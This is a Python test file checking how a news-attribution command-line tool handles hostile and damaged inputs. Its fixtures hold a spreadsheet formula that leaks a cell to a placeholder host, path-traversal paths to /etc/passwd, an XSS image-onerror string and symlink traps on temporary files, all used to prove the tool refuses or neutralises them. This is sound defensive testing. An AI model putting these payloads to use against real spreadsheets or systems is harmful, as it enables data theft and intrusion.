"""Hostile and broken inputs (issue 19): each case gives a clear one-line error or a correct
result, never a traceback, a silent overwrite, a hang or trusted garbage.

Classes, in the issue's order: CSV formula injection; manifest paths; silent overwrites;
damaged journals; damaged cache entries; long inputs; tracebacks turned into one-line errors;
orphaned workers; the smaller items (Markdown file names, temporary files, manifest cells and
columns).  Most tests stub the analysis out; the few that parse use short sentences.
"""

from __future__ import annotations

import csv
import errno
import gzip
import json
import logging
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from attribution import api, batch, cli as cli_module, corpus, safe_files
from attribution.cache import DamagedEntry, ParseCache, check_document
from attribution.cli import cli
from attribution.ingest import IngestError, read_article
from attribution.parse import MAX_SENTENCE_WORDS, Parser, pieces, split_sentence
from attribution.render import markdown as render_markdown
from attribution.report import ArticleReport
from attribution.results import Article, ParsedDocument, Sentence, Word

ARTICLE = '"We are concerned," John Kirby told reporters on Monday.\n'
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


def write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def stub_row(item: batch.Item, models: str = "bundled", cache_dir: str | None = None,
             max_bytes: int = 0) -> corpus.ArticleSummary:
    """batch.summarise_item without a parser: a row from the manifest's values (or an error)."""
    if item.refused:
        return corpus.failed(item.path, Path(item.path).stem, item.refused, extra=item.extra)
    try:
        read_article(item.path)
    except IngestError as err:
        return corpus.failed(item.path, Path(item.path).stem, str(err))
    return corpus.ArticleSummary(item.path, Path(item.path).stem, outlet=item.outlet or "unknown",
                                 outlet_from="manifest" if item.outlet else "none", title=item.title,
                                 words=10, kinds=(1, 0, 0, 0, 0), score=50, reading_ease=-12.5,
                                 extra=item.extra)


@pytest.fixture()
def stub_batch(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(batch, "summarise_item", stub_row)


def stub_report(path: Path | str) -> ArticleReport:
    text = Path(path).read_text(encoding="utf-8")
    return ArticleReport(Article(Path(path).stem, text, str(path)), ParsedDocument(text, (), "stub"), ())


@pytest.fixture()
def stub_analysis(monkeypatch: pytest.MonkeyPatch) -> None:
    def analyze_files(paths: Any, models: str = "bundled", max_bytes: int = 2_000_000,
                      cache: Any = None, **_: Any) -> Any:
        for path in paths:
            try:
                read_article(path, max_bytes)
            except IngestError as err:
                yield api.FileResult(Path(path), error=str(err), source=str(path))
                continue
            yield api.FileResult(Path(path), report=stub_report(path), source=str(path))

    monkeypatch.setattr(api, "analyze_files", analyze_files)


def no_traceback(result: Result) -> None:
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception


def one_line_errors(result: Result) -> list[str]:
    errors = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert all(e.rstrip().endswith(")") for e in errors), errors  # each says what to do
    return errors


# ---------------------------------------------------------------- 1. CSV formula injection

@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "  =1", FORMULA])
def test_formula_cells_are_quoted(cell: str) -> None:
    assert safe_files.csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", ["AP", "a-b", "", None, -12.5, 3, "'=quoted already"])
def test_other_cells_are_unchanged(value: Any) -> None:
    assert safe_files.csv_cell(value) == value


def test_no_formula_reaches_the_tables(stub_batch: None, tmp_path: Path) -> None:
    write(tmp_path / "in" / "a.txt", ARTICLE)
    manifest = write(tmp_path / "in" / "m.csv", f'path,outlet,title,=section\na.txt,@evil,"{FORMULA.replace(chr(34), chr(34) * 2)}",-2+3\n')
    out = tmp_path / "out"
    result = run("compare", str(manifest), "--by", "outlet", "-o", str(out))
    no_traceback(result)
    assert result.exit_code == 0, result.output
    with open(out / "articles.csv", encoding="utf-8", newline="") as fh:
        [row] = list(csv.DictReader(fh))
    assert row["title"] == "'" + FORMULA and row["outlet"] == "'@evil"
    assert row["'=section"] == "'-2+3"
    assert row["reading_ease"] == "-12.5"  # numbers stay numbers
    with open(out / "outlets.csv", encoding="utf-8", newline="") as fh:
        assert [r["outlet"] for r in csv.DictReader(fh)] == ["'@evil"]
    for table in ("articles.csv", "outlets.csv"):
        for cells in csv.reader((out / table).open(encoding="utf-8", newline="")):
            assert not any(c[:1] in "=+-@" and not c.replace(".", "").lstrip("-").isdigit() for c in cells if c)
    # The JSON keeps the values as they are.
    assert json.loads((out / "outlets.json").read_text(encoding="utf-8"))["groups"][0]["name"] == "@evil"


# ---------------------------------------------------------------- 2. manifest paths

def test_a_manifest_cannot_read_outside_its_folder(tmp_path: Path) -> None:
    secret = write(tmp_path / "secret" / "passwd.txt", "root:x:0:0:root:/root:/bin/bash\n")
    manifest = write(tmp_path / "corpus" / "meta" / "m.csv",
                     "path,outlet\n../../secret/passwd.txt,AP\n" + f"{secret},AP\n")
    items = batch.collect([manifest])
    assert len(items) == 2
    for line, item in zip((2, 3), items):
        assert item.refused and f"m.csv, line {line}: the path" in item.refused
        assert "outside the manifest's folder" in item.refused and item.refused.endswith("--root)")
        row = batch.summarise_item(item)
        assert row.error == item.refused and row.title is None  # nothing was read


def test_root_widens_the_allowed_folder(tmp_path: Path) -> None:
    write(tmp_path / "corpus" / "texts" / "a.txt", ARTICLE)
    manifest = write(tmp_path / "corpus" / "meta" / "m.csv", "path\n../texts/a.txt\n")
    assert batch.collect([manifest])[0].refused
    [item] = batch.collect([manifest], root=tmp_path / "corpus")
    assert item.refused is None and Path(item.path).resolve() == (tmp_path / "corpus/texts/a.txt").resolve()


def test_a_link_out_of_the_folder_is_refused(tmp_path: Path) -> None:
    outside = write(tmp_path / "outside.txt", ARTICLE)
    (tmp_path / "corpus").mkdir()
    (tmp_path / "corpus" / "link.txt").symlink_to(outside)
    manifest = write(tmp_path / "corpus" / "m.csv", "path\nlink.txt\n")
    assert "outside" in (batch.collect([manifest])[0].refused or "")


def test_a_refused_row_is_one_line_in_the_cli(stub_batch: None, tmp_path: Path) -> None:
    write(tmp_path / "corpus" / "a.txt", ARTICLE)
    manifest = write(tmp_path / "corpus" / "m.csv", "path\na.txt\n../../../../etc/passwd\n")
    result = run("compare", str(manifest), "-o", str(tmp_path / "out"))
    no_traceback(result)
    assert result.exit_code == 1
    [error] = one_line_errors(result)
    assert "m.csv, line 3: the path '../../../../etc/passwd' is outside" in error
    assert "root:" not in (tmp_path / "out" / "articles.csv").read_text(encoding="utf-8")


# ---------------------------------------------------------------- 3. silent overwrites

def test_analyze_never_replaces_its_input(stub_analysis: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    story = write(tmp_path / "story.md", ARTICLE)
    monkeypatch.chdir(tmp_path)
    result = run("analyze", "story.md", "--format", "md", "-o", ".")
    no_traceback(result)
    assert result.exit_code == 1
    [error] = one_line_errors(result)
    assert "would overwrite the input story.md" in error
    assert story.read_text(encoding="utf-8") == ARTICLE


def test_exercise_pages_of_two_same_named_articles_do_not_collide(
        stub_analysis: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from types import SimpleNamespace

    monkeypatch.setattr(cli_module.exercise_questions, "build", lambda report, level: SimpleNamespace(
        level="middle", name=report.article.path))
    monkeypatch.setattr(cli_module.exercise_render, "worksheet", lambda made: f"worksheet of {made.name}")
    monkeypatch.setattr(cli_module.exercise_render, "key", lambda made: f"key of {made.name}")
    a, b = write(tmp_path / "a" / "x.txt", ARTICLE), write(tmp_path / "b" / "x.txt", ARTICLE)
    out = tmp_path / "out"
    result = run("exercise", str(a), str(b), "-o", str(out))
    no_traceback(result)
    assert result.exit_code == 1
    [error] = one_line_errors(result)
    assert "written twice in this run" in error and str(a) in error
    assert result.stderr.splitlines()[-1].startswith("1 exercise (worksheet and key) written")
    assert (out / "x.middle.worksheet.html").read_text(encoding="utf-8") == f"worksheet of {a}"


def test_compare_refuses_to_write_over_its_manifest(stub_batch: None, tmp_path: Path) -> None:
    write(tmp_path / "out" / "a.txt", ARTICLE)
    manifest = write(tmp_path / "out" / "articles.csv", "path\na.txt\n")
    result = run("compare", str(manifest), "-o", str(tmp_path / "out"))
    no_traceback(result)
    assert result.exit_code == 1
    assert "would overwrite the input" in result.stderr
    assert manifest.read_text(encoding="utf-8") == "path\na.txt\n"
    assert not (tmp_path / "out" / "outlets.csv").exists()


def test_an_output_plan_refuses_inputs_and_repeats(tmp_path: Path) -> None:
    plan = safe_files.OutputPlan([tmp_path / "In.txt"])
    with pytest.raises(safe_files.OutputCollision, match="overwrite the input"):
        plan.claim(tmp_path / "in.TXT")  # case-folded, as on macOS and Windows
    plan.claim(tmp_path / "r.json", "a.txt")
    with pytest.raises(safe_files.OutputCollision, match=r"written twice in this run, for a.txt too \(rename"):
        plan.claim(tmp_path / "sub" / ".." / "r.json")


# One rule takes each input once (safe_files.input_key), for every command and for batch.collect.

def case_sensitive(folder: Path) -> bool:
    write(folder / "probe.txt", "x")
    sensitive = not (folder / "PROBE.txt").exists()
    (folder / "probe.txt").unlink()
    return sensitive


def both_ways(given: list[Path | str]) -> tuple[list[str], list[str]]:
    """The files inputs.expand and batch.collect take from ``given``, by real path."""
    from attribution import inputs

    return ([os.path.realpath(p) for p in inputs.expand(given)],
            [os.path.realpath(i.path) for i in batch.collect(given)])


def test_two_files_differing_only_in_case_are_two_inputs(tmp_path: Path) -> None:
    if not case_sensitive(tmp_path):
        pytest.skip("the temporary folder's file system folds case")
    upper, lower = write(tmp_path / "Story.txt", ARTICLE), write(tmp_path / "story.txt", ARTICLE.upper())
    for taken in both_ways([upper, lower]):
        assert taken == [str(upper), str(lower)]
    for taken in both_ways([tmp_path]):  # the same from a folder
        assert sorted(taken) == sorted([str(upper), str(lower)])


def test_one_file_under_several_names_is_one_input(tmp_path: Path) -> None:
    story = write(tmp_path / "corpus" / "story.txt", ARTICLE)
    (tmp_path / "link.txt").symlink_to(story)
    os.link(story, tmp_path / "hard.txt")
    names: list[Path | str] = [story, tmp_path / "corpus" / ".." / "corpus" / "story.txt", tmp_path / "link.txt",
                               tmp_path / "hard.txt", tmp_path / "corpus", str(story)]
    if not case_sensitive(tmp_path):
        names.append(tmp_path / "corpus" / "STORY.txt")
    for taken in both_ways(names):
        assert taken == [str(story)]


def test_a_manifest_row_repeating_a_file_is_taken_once(tmp_path: Path) -> None:
    write(tmp_path / "a.txt", ARTICLE)
    manifest = write(tmp_path / "m.csv", "path,outlet\na.txt,AP\n./a.txt,Reuters\n")
    [item] = batch.collect([manifest, tmp_path / "a.txt"])
    assert item.outlet == "AP"  # the first mention wins


def test_a_missing_file_named_twice_fails_once(tmp_path: Path) -> None:
    for taken in both_ways([tmp_path / "gone.txt", tmp_path / "." / "gone.txt"]):
        assert taken == [str(tmp_path / "gone.txt")]


def test_an_output_that_is_an_input_by_a_hard_link_is_refused(tmp_path: Path) -> None:
    story = write(tmp_path / "story.md", ARTICLE)
    os.link(story, tmp_path / "out.md")
    plan = safe_files.OutputPlan([story])
    assert "would overwrite the input" in (plan.conflict(tmp_path / "out.md") or "")
    assert plan.conflict(tmp_path / "other.md") is None


# ---------------------------------------------------------------- 4. damaged journals

def journal_line(key: str, row: Any) -> bytes:
    return (json.dumps({"key": key, "row": row}, ensure_ascii=False) + "\n").encode("utf-8")


GOOD_ROW = corpus.ArticleSummary("a.txt", "a", title="Zoë", words=5, kinds=(1, 0, 0, 0, 0), score=40).to_dict()


@pytest.mark.parametrize("damage", [
    journal_line("k2", None),
    journal_line("k2", "text"),
    journal_line("k2", {**GOOD_ROW, "words": "many"}),
    journal_line("k2", {**GOOD_ROW, "kind_direct": -1}),
    journal_line("k2", {**GOOD_ROW, "score": 1e9}),
    journal_line("k2", {**GOOD_ROW, "path": None}),
    journal_line("k2", {**GOOD_ROW, "title": ["a"]}),
    journal_line(["k2"], GOOD_ROW),  # type: ignore[arg-type]
    b"[1, 2]\n",
    b"null\n",
    journal_line("k2", GOOD_ROW)[:-8],                     # cut by a kill
    journal_line("k2", GOOD_ROW).replace(b"Zo\xc3\xab", b"Zo\xc3"),  # cut inside a UTF-8 character
    b"\xff\xfe\x00garbage\n",
])
def test_a_damaged_journal_line_is_dropped_with_a_warning(tmp_path: Path, damage: bytes,
                                                          caplog: pytest.LogCaptureFixture) -> None:
    # (A cut last line is ended by the next run before it appends: see the test after this.)
    journal = write(tmp_path / "j.jsonl", journal_line("k1", GOOD_ROW) + damage.rstrip(b"\n") + b"\n"
                    + journal_line("k3", GOOD_ROW))
    with caplog.at_level(logging.WARNING, logger="attribution"):
        rows = batch.read_journal(journal)
    assert sorted(rows) == ["k1", "k3"]
    assert rows["k1"] == corpus.ArticleSummary.from_dict(GOOD_ROW)
    assert any("1 damaged line dropped" in r.getMessage() for r in caplog.records)


def test_a_run_after_a_damaged_journal_redoes_that_article(stub_batch: None, tmp_path: Path) -> None:
    paths = [write(tmp_path / f"{n}.txt", ARTICLE) for n in "ab"]
    items = batch.collect(paths)
    journal = tmp_path / "j.jsonl"
    batch.run(items, journal=journal)
    lines = journal.read_bytes().splitlines(keepends=True)
    journal.write_bytes(lines[0] + b'{"key": "' + json.loads(lines[1])["key"].encode() + b'", "row": nu')  # killed mid-line
    resumed: list[bool] = []
    rows = batch.run(items, journal=journal, on_row=lambda row, old: resumed.append(old))
    assert resumed == [True, False] and [r.name for r in rows] == ["a", "b"]
    # The cut line was ended before the new row, so a third run takes both from the journal.
    resumed.clear()
    batch.run(items, journal=journal, on_row=lambda row, old: resumed.append(old))
    assert resumed == [True, True]


def test_cli_goes_on_past_a_journal_with_a_null_row(stub_batch: None, tmp_path: Path) -> None:
    write(tmp_path / "in" / "a.txt", ARTICLE)
    out = tmp_path / "out"
    write(out / ".journal.jsonl", journal_line("x" * 32, None) + b"\xe2\x80")
    result = run("compare", str(tmp_path / "in"), "-o", str(out))
    no_traceback(result)
    assert result.exit_code == 0, result.output
    assert "warning: " in result.stderr and "damaged line" in result.stderr


# ---------------------------------------------------------------- 5. damaged cache entries

TEXT = "Kirby said it.\n"
REGIONS = ((0, 14),)


def tiny_parse(heads: tuple[int, ...] = (2, 0, 2, 2), text: str = TEXT) -> ParsedDocument:
    spec = (("Kirby", "PROPN", 0, 5), ("said", "VERB", 6, 10), ("it", "PRON", 11, 13), (".", "PUNCT", 13, 14))
    words = tuple(Word(i, t, t, upos, "_", "_", h, "dep", s, e) for i, ((t, upos, s, e), h) in enumerate(zip(spec, heads), 1))
    return ParsedDocument(text, (Sentence(0, 0, 0, 14, words),), "bundled")


def entry(cache: ParseCache) -> Path:
    [path] = list(cache.directory.glob("*/*.conllu.gz"))
    return path


@pytest.mark.parametrize("damage", [
    lambda data: b"",                                         # a 0-byte entry
    lambda data: data[:-12] + b"\x00" * 12,                   # a zlib/CRC error
    lambda data: data[:20],                                   # cut short
    lambda data: b"not gzip at all",
    lambda data: gzip.compress(b"# text = nothing\n"),        # no sentences
    lambda data: gzip.compress(b"# x\n" * 3_000_000),         # a "gzip bomb" (12 MB from 12 KB)
    lambda data: gzip.compress(gzip.decompress(data).replace(b"\t2\tdep", b"\t3\tdep", 1)
                               .replace(b"\t2\tdep\t_\tstart_char=11", b"\t1\tdep\t_\tstart_char=11")),  # a cycle
    lambda data: gzip.compress(gzip.decompress(data).replace(b"\t2\tdep", b"\t9\tdep", 1)),  # head outside
    lambda data: gzip.compress(gzip.decompress(data).replace(b"end_char=5", b"end_char=500")),  # offsets outside
    lambda data: gzip.compress(gzip.decompress(data).replace(b"\tsaid\t", b"\tsays\t")),  # spelled otherwise
])
def test_a_damaged_entry_is_dropped_and_parsed_again(tmp_path: Path, damage: Any,
                                                     caplog: pytest.LogCaptureFixture) -> None:
    cache = ParseCache(tmp_path)
    cache.put(TEXT, REGIONS, "m1", tiny_parse())
    path = entry(cache)
    path.write_bytes(damage(path.read_bytes()))
    with caplog.at_level(logging.WARNING, logger="attribution"):
        assert cache.get(TEXT, REGIONS, "m1", "bundled") is None
    assert any(r.getMessage().startswith("warning: damaged parse cache entry") for r in caplog.records)
    assert not path.exists()  # dropped, so the next put stores a good one


def test_an_entry_for_another_text_is_refused(tmp_path: Path) -> None:
    cache = ParseCache(tmp_path)
    other = "Kirby saw it.\n"
    cache.put(other, REGIONS, "m1", tiny_parse(text=other))
    # Plant it under this text's key, as a copied or colliding file would be.
    target = cache._path(cache.key(TEXT, REGIONS, "m1"))
    target.parent.mkdir(parents=True, exist_ok=True)
    entry(cache).rename(target)
    assert cache.get(TEXT, REGIONS, "m1") is None


def test_check_document_names_the_problem() -> None:
    check_document(tiny_parse(), TEXT, REGIONS)
    with pytest.raises(DamagedEntry, match="cycle"):
        check_document(tiny_parse((2, 3, 2, 2)), TEXT, REGIONS)
    with pytest.raises(DamagedEntry, match="outside the sentence"):
        check_document(tiny_parse((2, 0, 5, 2)), TEXT, REGIONS)
    with pytest.raises(DamagedEntry, match="another text"):
        check_document(tiny_parse(), TEXT, REGIONS, digest="0" * 64)


def within(seconds: int, work: Any) -> Any:
    """``work()``, failing the test (not hanging it) if it runs past ``seconds``."""
    def stop(signum: int, frame: Any) -> None:
        raise TimeoutError(f"still running after {seconds} s: a walk that does not end")

    previous = signal.signal(signal.SIGALRM, stop)
    signal.alarm(seconds)
    try:
        return work()
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


@pytest.mark.skipif(not hasattr(signal, "SIGALRM"), reason="times the walk out with SIGALRM")
@pytest.mark.parametrize("heads", [(2, 3, 2, 2), (2, 1, 4, 3), (1, 0, 3, 2), (2, 0, 9, -1), (4, 1, 2, 3)])
def test_a_head_cycle_cannot_hang_a_tree_walk(heads: tuple[int, ...]) -> None:
    # A parse the cache would refuse (cycles, self-heads, heads outside the sentence), handed
    # to the walks and to the whole extraction directly, as a hand-built document could be.
    from attribution import extract
    from attribution.extract.tree import Tree

    doc = tiny_parse(heads)
    tree = Tree(doc.sentences[0], TEXT)
    for w in tree.words:
        within(5, lambda: tree.subtree(w))
        assert [x.id for x in tree.subtree(w)] == sorted({x.id for x in tree.subtree(w)})  # each word once
        assert len(tree.ancestors(w)) < len(tree.words)
        head = tree.head(w)
        assert head is None or (head.id != w.id and head in tree.words)
    within(20, lambda: extract.attributions(doc))


@pytest.mark.parametrize("stored", [
    {"flesch_reading_ease": "high", "flesch_kincaid_grade": 1.0, "gunning_fog": 1.0, "coleman_liau_index": 1.0,
     "words": 3, "sentences": 1},
    {"flesch_reading_ease": 1.0, "flesch_kincaid_grade": 1.0, "gunning_fog": 1.0, "coleman_liau_index": 1.0,
     "words": 2.5, "sentences": 1},
    {"flesch_reading_ease": 1.0},
    [1, 2, 3],
    "text",
])
def test_cache_measures_of_the_wrong_type_are_measured_again(tmp_path: Path, stored: Any) -> None:
    cache = ParseCache(tmp_path)
    cache.put_measures("readability/x", TEXT, REGIONS, {"a": 1})
    [path] = list(tmp_path.glob("*/*.json"))
    path.write_text(json.dumps(stored), encoding="utf-8")
    assert cache.get_measures("readability/x", TEXT, REGIONS, api._READABILITY_FIELDS) is None


def test_analysis_over_a_damaged_cache_is_correct(parser: Parser, tmp_path: Path) -> None:
    article = Article("a", ARTICLE)
    cache = ParseCache(tmp_path)
    first = api.analyze(article, cache=cache)
    for path in tmp_path.glob("*/*"):
        path.write_bytes(b"")  # the parse and the readability entry
    again = api.analyze(article, cache=cache)
    assert again.to_dict() == first.to_dict() and len(again.attributions) == 1


# ---------------------------------------------------------------- 6. long inputs

def sentence_entries(count: int, mwt_every: int = 0) -> list[dict[str, Any]]:
    """A tokenized sentence in stanza's dict form: ``count`` words, some as two-word tokens."""
    out: list[dict[str, Any]] = []
    wid, char = 1, 0
    while wid <= count:
        if mwt_every and wid % mwt_every == 0 and wid < count:
            out.append({"id": (wid, wid + 1), "text": "can't", "start_char": char, "end_char": char + 5})
            out.append({"id": wid, "text": "ca"})
            out.append({"id": wid + 1, "text": "n't"})
            wid += 2
        else:
            out.append({"id": wid, "text": "," if wid % 37 == 0 else "word", "start_char": char, "end_char": char + 4})
            wid += 1
        char += 6
    return out


@pytest.mark.parametrize("count", [1, 199, 200, 201, 1000, 5003])
def test_long_sentences_are_cut_into_parts_of_at_most_the_cap(count: int) -> None:
    parts = split_sentence(sentence_entries(count, mwt_every=7), MAX_SENTENCE_WORDS)
    words = [[e for e in part if isinstance(e["id"], int)] for part in parts]
    assert sum(len(w) for w in words) == count
    for part in words:
        assert [e["id"] for e in part] == list(range(1, len(part) + 1))
        assert len(part) <= MAX_SENTENCE_WORDS
    for part in parts:  # a multiword token stays whole, with its words right after it
        for i, e in enumerate(part):
            if isinstance(e["id"], tuple):
                assert [x["id"] for x in part[i + 1:i + 3]] == list(e["id"])
    if count > MAX_SENTENCE_WORDS:
        assert len(parts) >= 2


def test_long_lines_are_parsed_in_bounded_pieces() -> None:
    text = ("A sentence of words. " * 20_000).strip()
    parts = pieces(text, [(0, len(text))], limit=10_000)
    assert all(e - s <= 10_000 for s, e, _ in parts) and {p for _, _, p in parts} == {0}
    assert "".join(text[s:e] for s, e, _ in parts).replace(" ", "") == text.replace(" ", "")
    assert all(text[e - 2:e] == ". " for _, e, _ in parts[:-1])  # cut after a sentence end


def test_a_run_on_sentence_is_parsed_in_capped_parts(parser: Parser) -> None:
    text = " ".join(["officials said the talks went on"] * 120) + "."
    doc = parser.parse(text)
    assert max(len(s.words) for s in doc.sentences) <= MAX_SENTENCE_WORDS
    assert doc.num_words == 721
    check_document(doc, text, [(0, len(text))])


# ---------------------------------------------------------------- 7. one-line errors, not tracebacks

def test_a_symlink_loop_given_as_a_file(stub_batch: None, stub_analysis: None, tmp_path: Path) -> None:
    loop = tmp_path / "loop.txt"
    loop.symlink_to(loop)
    good = write(tmp_path / "good.txt", ARTICLE)
    for command in (["analyze", str(loop), str(good), "-o", str(tmp_path / "r")],
                    ["compare", str(loop), str(good), str(good.with_name("missing.txt")), "-o", str(tmp_path / "c")]):
        result = run(*command)
        no_traceback(result)
        assert result.exit_code == 1
        errors = one_line_errors(result)
        assert errors and errors[0].startswith(f"error: {loop}: cannot be read")


def test_a_symlink_loop_inside_a_folder(tmp_path: Path) -> None:
    write(tmp_path / "corpus" / "a.txt", ARTICLE)
    (tmp_path / "corpus" / "again").symlink_to(tmp_path / "corpus")
    assert [Path(i.path).name for i in batch.collect([tmp_path / "corpus"])] == ["a.txt"]


@pytest.mark.parametrize(("code", "reason"), [
    (errno.EACCES, "permission denied"), (errno.EROFS, "read-only"), (errno.ENOSPC, "no space left"),
])
def test_unwritable_or_full_output_is_one_line_per_file(stub_analysis: None, tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch, code: int,
                                                        reason: str) -> None:
    # chmod would not stop root (CI containers), so the refusal is simulated at the write.
    real_fdopen = os.fdopen

    class Refusing:
        def __init__(self, fd: int, mode: str) -> None:
            self.fh = real_fdopen(fd, mode)

        def __enter__(self) -> Refusing:
            return self

        def __exit__(self, *exc: object) -> None:
            self.fh.close()

        def write(self, data: bytes) -> int:
            raise OSError(code, os.strerror(code))

    monkeypatch.setattr(safe_files.os, "fdopen", Refusing)
    inputs = [write(tmp_path / f"{n}.txt", ARTICLE) for n in "ab"]
    out = tmp_path / "out"
    result = run("analyze", *map(str, inputs), "--format", "json,md", "-o", str(out))
    no_traceback(result)
    assert result.exit_code == 1
    errors = one_line_errors(result)
    assert len(errors) == 2 and all(reason in e and "-o" in e for e in errors)
    assert list(out.iterdir()) == []  # no half or empty file, no temporary left


def test_a_full_disk_leaves_no_empty_chart(stub_batch: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(tmp_path / "in" / "a.txt", ARTICLE)
    real = safe_files.write_bytes

    def full(path: Any, data: bytes) -> None:
        if str(path).endswith(".png"):
            raise safe_files.write_error(path, OSError(errno.ENOSPC, "No space left on device"))
        real(path, data)

    monkeypatch.setattr(safe_files, "write_bytes", full)
    out = tmp_path / "out"
    result = run("compare", str(tmp_path / "in"), "-o", str(out))
    no_traceback(result)
    assert result.exit_code == 1
    [error] = one_line_errors(result) or [""]
    assert "no space left on the disk" in error
    assert not list((out / "charts").glob("*.png")) if (out / "charts").exists() else True


def test_file_names_near_the_255_byte_limit(stub_analysis: None, tmp_path: Path) -> None:
    stem = "x" * 250  # 250 + ".json" = 255 bytes: allowed, and the temporary name must not overflow
    source = write(tmp_path / f"{stem}.txt", ARTICLE)
    result = run("analyze", str(source), "--format", "json,html", "-o", str(tmp_path / "out"))
    no_traceback(result)
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [f"{stem}.html", f"{stem}.json"]


def test_a_name_too_long_for_the_disk_is_one_line(tmp_path: Path) -> None:
    with pytest.raises(safe_files.WriteError, match=r"too long \(rename the input"):
        safe_files.write_text(tmp_path / ("y" * 300 + ".json"), "{}")


def test_a_nul_byte_in_a_manifest_path(stub_batch: None, tmp_path: Path) -> None:
    write(tmp_path / "a.txt", ARTICLE)
    manifest = write(tmp_path / "m.csv", "path\na.txt\nb\x00.txt\n")
    result = run("compare", str(manifest), "-o", str(tmp_path / "out"))
    no_traceback(result)
    assert result.exit_code == 1
    [error] = one_line_errors(result)
    assert "m.csv, line 3: the path 'b\\\\x00.txt' holds control characters" in error


def test_an_unreadable_file_fails_alone(stub_analysis: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    locked, good = write(tmp_path / "locked.txt", ARTICLE), write(tmp_path / "good.txt", ARTICLE)
    real = Path.read_bytes

    def refuse(self: Path) -> bytes:
        if self.name == "locked.txt":
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", refuse)
    result = run("analyze", str(locked), str(good), "-o", str(tmp_path / "out"))
    no_traceback(result)
    assert result.exit_code == 1
    assert one_line_errors(result) == [f"error: {locked}: cannot be read: Permission denied "
                                       "(check that it is a readable file)"]
    assert (tmp_path / "out" / "good.json").is_file()


def test_a_pipe_is_refused_not_waited_on(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    with pytest.raises(IngestError, match="not a regular file"):
        read_article(fifo)


def test_a_read_only_journal_folder_is_one_line(stub_batch: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(tmp_path / "in" / "a.txt", ARTICLE)
    real_open = open

    def refusing_open(file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        if str(file).endswith(".journal.jsonl") and "a" in mode:
            raise PermissionError(errno.EACCES, "Permission denied")
        return real_open(file, mode, *args, **kwargs)

    monkeypatch.setattr("builtins.open", refusing_open)
    result = run("compare", str(tmp_path / "in"), "-o", str(tmp_path / "out"))
    no_traceback(result)
    assert result.exit_code == 1
    assert result.stderr.startswith("error: ") and "journal.jsonl: cannot write: permission denied" in result.stderr


# ---------------------------------------------------------------- 8. orphans

PARENT = """
import os, sys, time
from concurrent.futures import ProcessPoolExecutor
from multiprocessing import get_context
sys.path.insert(0, sys.argv[1])
from attribution import batch
batch.PARENT_CHECK_SECONDS = 0.2
pool = ProcessPoolExecutor(1, mp_context=get_context("spawn"), initializer=batch._die_with_parent,
                           initargs=(os.getpid(),))
print(pool.submit(os.getpid).result(), flush=True)
time.sleep(120)
"""


def alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat", encoding="ascii") as fh:
            return fh.read().rsplit(")", 1)[1].split()[0] != "Z"  # a zombie has ended
    except FileNotFoundError:
        return False


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads process states from /proc")
def test_workers_die_with_their_parent(tmp_path: Path) -> None:
    root = str(Path(batch.__file__).resolve().parent.parent)
    parent = subprocess.Popen([sys.executable, "-c", PARENT, root], stdout=subprocess.PIPE, text=True)
    try:
        worker = int(parent.stdout.readline())  # type: ignore[union-attr]
        assert alive(worker)
        parent.send_signal(signal.SIGKILL)
        parent.wait(10)
        deadline = time.monotonic() + 20
        while alive(worker) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert not alive(worker), "the worker outlived its killed parent"
    finally:
        parent.kill()


# ---------------------------------------------------------------- 9. smaller items

@pytest.mark.parametrize("name", ["a`b", "``x", "x`", "`<img src=x onerror=alert(1)>`", "<script>"])
def test_a_backtick_cannot_end_the_file_name_code_span(name: str) -> None:
    report = ArticleReport(Article(name, ARTICLE), ParsedDocument(ARTICLE, (), "stub"), ())
    line = next(line for line in render_markdown.dumps(report).splitlines() if line.startswith("File: "))
    span = line[len("File: "):line.index(" · ")]
    fence = span[:len(span) - len(span.lstrip("`"))]
    assert span.endswith(fence) and "`" * len(fence) not in span[len(fence):-len(fence)]
    assert span[len(fence):-len(fence)].strip(" ") == name


def test_temporary_files_are_unpredictable_and_follow_no_link(tmp_path: Path) -> None:
    victim = write(tmp_path / "victim.txt", "keep me")
    for guess in (f".report.json.{os.getpid()}.tmp", ".report.json.tmp"):
        (tmp_path / guess).symlink_to(victim)
    safe_files.write_text(tmp_path / "report.json", "{}")
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert (tmp_path / "report.json").read_text(encoding="utf-8") == "{}"
    assert not list(tmp_path.glob(".attribution-*"))


@pytest.mark.parametrize("separator", ["\u2028", "\u0085", "\u2029", "\x1c"])
def test_unicode_line_breaks_stay_inside_a_manifest_cell(tmp_path: Path, separator: str) -> None:
    write(tmp_path / "a.txt", ARTICLE)
    manifest = write(tmp_path / "m.csv", f"path,title\na.txt,First{separator}a.txt\n")
    [item] = batch.collect([manifest])
    assert item.title == f"First{separator}a.txt"


def test_manifest_columns_named_like_the_table_are_kept(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
